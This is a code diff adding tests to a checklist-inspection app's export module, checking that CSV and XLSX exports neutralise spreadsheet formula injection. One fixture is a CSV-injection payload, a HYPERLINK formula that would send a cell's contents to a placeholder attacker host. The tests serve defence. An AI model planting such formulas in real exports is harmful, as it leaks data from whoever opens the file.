@@ -144,3 +144,36 @@ def test_answers_are_read_from_the_covering_index(db):
         ["x"],
     ).fetchall()
     assert "COVERING INDEX inspection_answers_export" in " ".join(str(row[-1]) for row in plan)
+
+
+def test_text_that_a_spreadsheet_would_run_is_escaped_in_csv(client, auth, db, received):
+    """OWASP CSV injection: =, +, -, @, tab and CR at the start of a cell get a leading quote."""
+    typed = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    db.execute("UPDATE rectifications SET problem = ?, action = ?", [typed, "@SUM(1+1)"])
+    auth.login("bureau")
+    response = client.get(
+        "/bureau/export.zip", query_string={**TERM, "checklist": "fupin_comprehensive"}
+    )
+    archive = zipfile.ZipFile(io.BytesIO(response.data))
+    rows = list(csv.reader(io.StringIO(archive.read("4-整改情况.csv").decode("utf-8-sig"))))
+    header, body = rows[0], rows[1:]
+    assert body
+    problem, measures = header.index("问题描述"), header.index("整改措施")
+    assert {row[problem] for row in body} == {"'" + typed}
+    assert {row[measures] for row in body} == {"'@SUM(1+1)"}
+    # Nothing else starts with a formula character unescaped, in any sheet.
+    for name in archive.namelist():
+        for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))):
+            assert not any(cell[:1] in ("=", "+", "@") for cell in row), (name, row)
+    # The XLSX keeps the text as text (a string cell, never a formula), unchanged.
+    sheet = _workbook(client)["整改情况"]
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == typed]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+def test_numbers_are_not_escaped():
+    from inspect_app.bureau.exports import _csv_value
+
+    assert _csv_value(-3.0) == -3 and _csv_value(-2.5) == -2.5
+    assert _csv_value("-") == "'-" and _csv_value("\t=1") == "'\t=1"
+    assert _csv_value("正常文字") == "正常文字"
